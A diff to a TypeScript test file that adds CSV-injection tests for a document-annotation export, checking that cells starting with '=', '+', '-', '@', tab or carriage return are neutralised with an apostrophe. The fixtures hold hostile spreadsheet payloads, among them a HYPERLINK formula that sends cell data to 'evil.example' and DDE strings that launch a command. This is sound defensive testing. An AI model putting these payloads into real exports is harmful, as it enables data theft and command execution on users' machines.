@@ -1,7 +1,12 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { parse } from 'csv-parse/sync';
+import type { Code } from '../../src-main/core/annotations/code';
+import { createTextTarget } from '../../src-main/core/annotations/createQuoteSelector';
+import type { Highlight } from '../../src-main/core/annotations/highlight';
 import { CSV_COLUMNS, exportCsv } from '../../src-main/core/export/csvExport';
+import type { ExportDocument } from '../../src-main/core/export/exportInput';
+import { neutraliseFormula } from '../../src-main/core/export/spreadsheetCell';
 import { emojiPost, highlights, sampleInput, sirteReport } from './fixtures/sampleExport';
 
 function rowsOf(csv: string): Record<string, string>[] {
@@ -58,4 +63,52 @@ test('an orphan keeps its quote but leaves paragraph and offsets empty', () => {
 
 test('a highlight whose document is missing fails with both ids named', () => {
   assert.throws(() => exportCsv({ ...sampleInput, documents: [sirteReport] }), /doc-chief/);
+});
+
+test('cells that a spreadsheet would run as a formula are neutralised with a leading apostrophe (OWASP)', () => {
+  const hostile: ExportDocument = {
+    id: 'doc-hostile',
+    title: '=HYPERLINK("http://evil.example/?x="&A1,"انقر")',
+    source: '+cmd|\' /C calc\'!A0',
+    date: '2025-01-01',
+    url: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    text: 'نص عادي للتجربة\n-2+3+cmd|\' /C calc\'!A0 بقية السطر',
+  };
+  const quoteStart = hostile.text.indexOf('-2+3');
+  const hostileHighlight: Highlight = {
+    ...highlights[1]!,
+    id: 'h-hostile',
+    docId: hostile.id,
+    target: createTextTarget(hostile.text, { start: quoteStart, end: hostile.text.length }, 'b'.repeat(64)),
+    note: '\t=1+1',
+    codeIds: ['c-formula'],
+  };
+  const formulaCode: Code = { id: 'c-formula', name: '\r=cmd', color: '#000000' };
+  const csv = exportCsv({
+    ...sampleInput,
+    highlights: [hostileHighlight],
+    codes: [formulaCode],
+    documents: [hostile],
+    documentNotes: [],
+  });
+  const row = rowsOf(csv)[0]!;
+  assert.equal(row.document_title, `'${hostile.title}`);
+  assert.equal(row.source, `'${hostile.source}`);
+  assert.equal(row.url, `'${hostile.url}`);
+  assert.equal(row.quote, `'-2+3+cmd|' /C calc'!A0 بقية السطر`);
+  assert.equal(row.note, `'\t=1+1`);
+  assert.equal(row.code, `'\r=cmd`);
+  for (const [column, value] of Object.entries(row)) {
+    assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} still starts with a formula character`);
+  }
+  // Ordinary cells are left exactly as they were.
+  assert.equal(row.highlight_id, 'h-hostile');
+  assert.equal(row.date, '2025-01-01');
+});
+
+test('the spreadsheet cell helper leaves ordinary text alone and prefixes each formula trigger', () => {
+  for (const trigger of ['=', '+', '-', '@', '\t', '\r']) {
+    assert.equal(neutraliseFormula(`${trigger}1`), `'${trigger}1`);
+  }
+  for (const plain of ['', 'حفتر', '12', '2025-01-01', "'already", ' =spaced']) assert.equal(neutraliseFormula(plain), plain);
 });
